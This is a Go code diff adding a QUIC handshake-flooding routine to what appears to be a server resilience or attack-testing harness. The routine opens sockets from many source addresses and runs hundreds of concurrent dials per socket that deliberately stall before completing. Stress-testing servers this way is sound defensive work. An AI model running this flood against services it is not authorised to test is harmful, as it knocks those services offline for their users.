@@ -113,6 +113,34 @@ func quicInitials(a *attacker) (func(context.Context), error) {
 	return packets(func(i int) []byte { return first[i%len(first)] })(a)
 }
 
+// quicUnfinished begins handshakes, proves its addresses where it is asked to, and goes no further.
+func quicUnfinished(a *attacker) (func(context.Context), error) {
+	to, err := net.ResolveUDPAddr("udp", a.addr)
+	return func(ctx context.Context) {
+		conf := cheapTLS(http3.NextProtoH3)
+		conf.MinVersion = tls.VersionTLS13
+		conf.VerifyConnection = func(tls.ConnectionState) error { <-ctx.Done(); return ctx.Err() }
+		var wg sync.WaitGroup
+		for i := range int64(attackers) {
+			socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: sender(i)})
+			if err != nil {
+				continue
+			}
+			tr := &quic.Transport{Conn: countedPackets{socket, a}}
+			for range 300 {
+				wg.Go(func() {
+					for ctx.Err() == nil {
+						a.count.Add(1)
+						_, _ = tr.Dial(ctx, to, conf, nil) // refused, or not done
+					}
+				})
+			}
+			defer socket.Close()
+		}
+		wg.Wait()
+	}, err
+}
+
 // onQUIC repeats an attack on streams of connections that are open.
 func onQUIC(stream func(*quic.Stream)) func(*attacker) (func(context.Context), error) {
 	return func(a *attacker) (func(context.Context), error) {
